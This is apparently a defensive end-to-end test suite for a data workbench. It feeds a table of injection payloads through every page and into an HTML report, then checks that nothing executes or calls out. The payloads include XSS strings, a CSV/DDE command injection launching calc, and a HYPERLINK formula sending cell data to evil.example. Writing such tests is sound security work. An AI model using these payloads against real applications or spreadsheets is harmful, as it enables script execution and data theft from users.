"""A table that tries everything: read, mined, registered, reported, opened. Nothing of it may run."""

from __future__ import annotations

import csv
import io
import random
import re
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Request, expect

from miner.tables.model import Role
from miner.tables.sandbox import read_file_safely
from miner.tables.suggestions import suggest
from reports.export import TRIGGERS
from reports.findings_table import findings_csv, shown_rows
from reports.html import report_html
from tests.e2e.conftest import Watched, Workbench, settled
from workbench.services import create_project
from workbench.session import open_project

pytestmark = pytest.mark.browser
NAMES = (
    "<img src=x onerror=window.PWNED=1>",
    "=cmd|' /C calc'!A0",
    "[click](javascript:window.PWNED=1)",
    "$\\href{javascript:window.PWNED=1}{x}$ :material/home: **bold** `code`",
)
CELLS = (
    "<script>window.PWNED=1</script>",
    '=HYPERLINK("http://evil.example/"&A1)',
    "![x](http://evil.example/x.png)",
    "<svg/onload=window.PWNED=1>",
)


def hostile(folder: Path) -> Path:
    """400 persons; the outcome goes with the first column, so that there is something to find."""
    chance = random.Random(7)
    path = folder / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", *NAMES, "sick"])
        for k in range(400):
            first = chance.random() < 0.5
            cells = [CELLS[0] if first else CELLS[1], *(chance.choice(CELLS) for _ in NAMES[1:])]
            writer.writerow([k, *cells, int(chance.random() < (0.7 if first else 0.2))])
    return path


def test_a_hostile_table_goes_through_every_page_and_nothing_of_it_runs(
    workbench: Workbench, watched: Watched, tmp_path: Path
) -> None:
    page = watched.page
    page.goto(f"{workbench.address}/data?lang=en")
    page.locator('[data-testid="stFileUploaderDropzoneInput"], input[type=file]').first.set_input_files(
        hostile(tmp_path)
    )
    expect(page.get_by_role("heading", name="Dictionary")).to_be_visible()
    settled(page)
    page.get_by_role("button", name="Freeze data, dictionary and split").click()
    expect(page.get_by_text("frozen in the ledger")).to_be_visible()
    assert page.evaluate("window.PWNED") is None
    project = create_and_mine(workbench, tmp_path)
    for name in ("data", "mine", "findings", "registry", "ledger", "study", "report"):
        page.goto(f"{workbench.address}/{name}?lang=en&p={project}&h=H-0001")
        expect(page.get_by_text("Hypothesis, not causation").first).to_be_visible()
        settled(page)
        assert page.get_by_test_id("stException").count() == 0
        assert page.evaluate("window.PWNED") is None
        assert page.locator("a[href^=javascript]").count() == 0
        assert page.locator("[data-testid=stMain] img[src^=http]").count() == 0
    page.goto(f"{workbench.address}/findings?lang=en&p={project}")
    page.get_by_role("tab", name="Volcano").click()
    expect(page.get_by_test_id("stVegaLiteChart").first).to_be_visible()
    settled(page)


def create_and_mine(workbench: Workbench, folder: Path) -> str:
    """The same table with the outcome declared, mined and with a registered finding."""
    table = read_file_safely(hostile(folder))
    suggested = suggest(table)
    roles = {"id": Role.KEY, "sick": Role.OUTCOME}
    variables = tuple(replace(v, role=roles.get(v.name, Role.EXPOSURE)) for v in suggested)
    project = create_project(
        workbench.projects / "hostile-mined",
        name="<b>hostile</b> [x](javascript:1)",
        table=table,
        dictionary=replace(suggested, variables=variables),
        fraction=None,
        profile="public",
        person="<script>window.PWNED=1</script>",
    )
    run = project.mine(project.suggested_plan())
    found = project.findings(run.id)
    assert len(found), "a hostile table has findings too"
    project.register(found, found.names[0], person="=Ada<script>", words="=1+1 <img src=x onerror=window.PWNED=1>")
    project.close()
    return "hostile-mined"


def test_the_report_of_a_hostile_table_asks_for_nothing_and_runs_nothing(
    workbench: Workbench, browser: Browser, tmp_path: Path
) -> None:
    path = workbench.projects / "hostile-mined"
    if not path.exists():
        create_and_mine(workbench, tmp_path)
    project = open_project(path)
    file = tmp_path / "report.html"
    file.write_text(report_html(project, "en"), encoding="utf-8")
    found = project.findings("R1")
    rows = shown_rows(found, project.profile)
    for line in list(csv.reader(io.StringIO(findings_csv(project, found, rows, "en"), newline="")))[1:]:
        assert not [cell for cell in line if cell.startswith(TRIGGERS) and not re.fullmatch(r"-?[\d.e+-]+|-?Inf", cell)]
    project.close()
    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []
    dialogs: list[str] = []

    def hear(request: Request) -> None:
        if request.url != file.as_uri() and not request.url.startswith("data:"):
            asked.append(request.url)

    page.on("request", hear)
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.goto(file.as_uri())
    expect(page.get_by_text("Hypothesis, not causation").first).to_be_visible()
    page.wait_for_timeout(500)
    assert page.evaluate("window.PWNED") is None
    assert asked == []
    assert dialogs == []
    assert page.locator("script, iframe, object, embed").count() == 0
    context.close()
